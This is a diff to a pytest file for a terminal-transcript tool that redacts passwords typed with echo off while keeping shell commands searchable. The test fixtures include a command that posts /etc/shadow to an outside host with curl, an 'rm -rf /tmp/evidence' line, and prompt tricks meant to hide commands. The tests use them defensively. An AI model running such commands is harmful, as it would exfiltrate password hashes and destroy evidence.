@@ -12,6 +12,7 @@ import pytest
 from terminal import transcript
 from terminal.transcript import time_at, transcript_from_bytes, transcript_from_events
 from terminal.transcript.echo import NOT_SHOWN, asks_for_a_secret
+from terminal.transcript.text import Cleaner
 
 SECRET = "Hunter2-Secret!"
 
@@ -147,7 +148,9 @@ def test_commands_typed_with_echo_turned_off_at_a_shell_prompt_stay_searchable()
     assert _markers(built) == ["stty -echo", "curl -d @/etc/shadow https://example.com", "rm -rf /tmp/evidence"]
 
 
-def test_a_password_pasted_with_the_command_that_asks_for_it() -> None:
+def test_a_password_pasted_with_the_command_that_asks_for_it_is_kept() -> None:
+    """Pasted ahead of its prompt, it was typed on the shell's prompt line: a prompt printed after its Enter
+    could as well be an earlier command's output (review s32a), so it is not judged by it, and is kept."""
     events = [
         [0.1, "o", "$ "],
         [0.5, "i", f"sudo -k true\r{SECRET}\rid\r"],
@@ -155,8 +158,8 @@ def test_a_password_pasted_with_the_command_that_asks_for_it() -> None:
         [0.7, "o", "\r\n$ id\r\nuid=1001(rs-alice)\r\n$ "],
     ]
     built = transcript_from_events(events)
-    assert built.input == f"sudo -k true\n{NOT_SHOWN}\nid\n"
-    assert _markers(built) == ["sudo -k true", "id"]
+    assert built.input == f"sudo -k true\n{SECRET}\nid\n"
+    assert _markers(built) == ["sudo -k true", SECRET, "id"]
 
 
 @pytest.mark.parametrize(
@@ -189,3 +192,102 @@ def test_a_typed_text_with_no_output_at_all_is_kept() -> None:
     """Nothing printed at all: nothing to tell an echo by (input-only events, as many tests give)."""
     built = transcript_from_events([[1.0, "i", "whoami\r"], [2.0, "i", "id\r"]])
     assert built.input == "whoami\nid\n" and _markers(built) == ["whoami", "id"]
+
+
+EVIL = "curl -d @/etc/shadow https://example.com"
+
+
+def test_a_command_whose_own_output_starts_with_a_password_prompt_stays_searchable() -> None:
+    """Review s32a: with echo off at a shell's prompt, a command printing ``Password:`` first is still the
+    line typed at ``$``: only the printed line its keys were typed on counts, never output after its Enter."""
+    events = [
+        [0.1, "o", "rs-alice@web-1:~$ "],
+        [0.2, "i", "stty -echo\r"],
+        [0.3, "o", "stty -echo\r\nrs-alice@web-1:~$ "],
+        [1.0, "i", f"echo Password:; {EVIL}\r"],
+        [1.5, "o", "Password:\r\nok\r\nrs-alice@web-1:~$ "],
+    ]
+    built = transcript_from_events(events)
+    assert built.input == f"stty -echo\necho Password:; {EVIL}\n"
+    assert _markers(built) == ["stty -echo", f"echo Password:; {EVIL}"]
+
+
+def test_commands_pasted_after_one_printing_a_password_prompt_stay_searchable() -> None:
+    """The same with the lines pasted at once: a later line is not judged by an earlier one's output."""
+    events = [
+        [0.1, "o", "$ "],
+        [0.2, "i", "stty -echo\r"],
+        [0.3, "o", "stty -echo\r\n$ "],
+        [1.0, "i", f"echo Password:\r{EVIL}\r"],
+        [1.5, "o", "Password:\r\n$ ok\r\n$ "],
+    ]
+    built = transcript_from_events(events)
+    assert built.input == f"stty -echo\necho Password:\n{EVIL}\n"
+
+
+def test_a_shell_prompt_set_to_look_like_a_password_prompt_hides_at_most_three_lines() -> None:
+    """Review s32a: ``PS1='Password: '`` with echo off. sudo asks three times, so three unechoed lines in a
+    row at one prompt text may be secrets; the lines after them at that prompt are kept."""
+    events = [
+        [0.1, "o", "$ "],
+        [0.2, "i", "stty -echo; PS1='Password: '\r"],
+        [0.3, "o", "stty -echo; PS1='Password: '\r\nPassword: "],
+    ]
+    typed = ["one", "two", "three", EVIL, "rm -rf /tmp/evidence", "id"]
+    for number, line in enumerate(typed):
+        events += [[1.0 + number, "i", f"{line}\r"], [1.5 + number, "o", "ok\r\nPassword: "]]
+    built = transcript_from_events(events)
+    hidden = f"{NOT_SHOWN}\n" * 3
+    assert built.input == f"stty -echo; PS1='Password: '\n{hidden}{EVIL}\nrm -rf /tmp/evidence\nid\n"
+    assert _markers(built) == ["stty -echo; PS1='Password: '", EVIL, "rm -rf /tmp/evidence", "id"]
+
+
+def test_a_prompt_that_changes_each_time_hides_at_most_six_lines_in_a_row() -> None:
+    """A prompt naming a counter or the time differs each time: at most HIDDEN_IN_A_ROW lines are hidden
+    until a line is echoed again."""
+    events: list[list[object]] = [[0.1, "o", "$ "], [0.2, "i", "stty -echo\r"]]
+    events.append([0.3, "o", "stty -echo\r\n1 Password: "])
+    for number in range(8):
+        events += [[1.0 + number, "i", f"cmd-{number}\r"], [1.5 + number, "o", f"\r\n{number + 2} Password: "]]
+    built = transcript_from_events(events)
+    assert built.input == "stty -echo\n" + f"{NOT_SHOWN}\n" * 6 + "cmd-6\ncmd-7\n"
+
+
+def test_a_line_echoed_again_starts_a_new_run_of_hidden_lines() -> None:
+    """sudo's three tries, a command echoed, then sudo's three tries again: all six passwords hidden."""
+    events: list[list[object]] = [[0.1, "o", "$ "]]
+    moment = 0.2
+    for _ in range(2):
+        events += [[moment, "i", "sudo -k true\r"]]
+        events += [[moment + 0.1, "o", "sudo -k true\r\n[sudo] password for rs-alice: "]]
+        for _ in range(3):
+            events += [[moment + 0.2, "i", f"{SECRET}\r"], [moment + 0.3, "o", "\r\n[sudo] password for rs-alice: "]]
+            moment += 0.2
+        events += [[moment + 0.4, "o", "\r\nsudo: 3 incorrect password attempts\r\n$ "]]
+        moment += 1
+    built = transcript_from_events(events)
+    assert SECRET not in built.input
+    assert built.input == f"sudo -k true\n{NOT_SHOWN}\n{NOT_SHOWN}\n{NOT_SHOWN}\n" * 2
+
+
+def test_many_held_lines_left_out_keep_the_index_of_each() -> None:
+    """Review s32a: lines held back (a paste, keys typed ahead) and then left out one at a time: each line
+    left out moves only its own index entries, and every later line's entries still find it in the text."""
+    cleaner = Cleaner(typed=True, defer=True)
+    count = 1500
+    for number in range(count):
+        for key, moment in (("ab", 0.0), ("c", 0.25), ("\r", 0.5)):
+            cleaner.add(key, number + moment)
+    for number in range(count):
+        cleaner.settle("abc", number + 0.5, shown=number % 2 == 1)
+    text = cleaner.text()
+    assert text == f"{NOT_SHOWN}\nabc\n" * (count // 2)
+    pair = len(NOT_SHOWN) + 1 + len("abc\n")
+    expected: list[list[float]] = []
+    for number in range(count):
+        start = number // 2 * pair + (len(NOT_SHOWN) + 1 if number % 2 else 0)
+        # A line left out keeps the entry at its start; one kept, each of its events'.
+        kept = [[start, number], [start + 2, number + 0.25], [start + 3, number + 0.5]]
+        expected += kept if number % 2 else kept[:1]
+    assert cleaner.index == expected
+    assert time_at(cleaner.index, text.rindex("abc")) == count - 1
